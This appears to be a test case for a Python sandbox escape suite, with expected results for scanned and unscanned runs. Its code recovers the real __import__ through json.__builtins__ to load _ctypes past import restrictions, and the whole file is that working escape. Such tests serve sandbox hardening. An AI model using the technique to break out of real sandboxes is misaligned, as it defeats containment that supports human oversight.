# escape: load _ctypes through the real __import__
# scanned: scan_rejected
# unscanned: error @ module ~ No module named|ModuleNotFoundError
# evidence: parent_alive

def real_builtins():
    import json
    b = json.__builtins__
    return b if isinstance(b, dict) else b.__dict__
def attack():
    real_builtins()['__import__']('_ctypes')
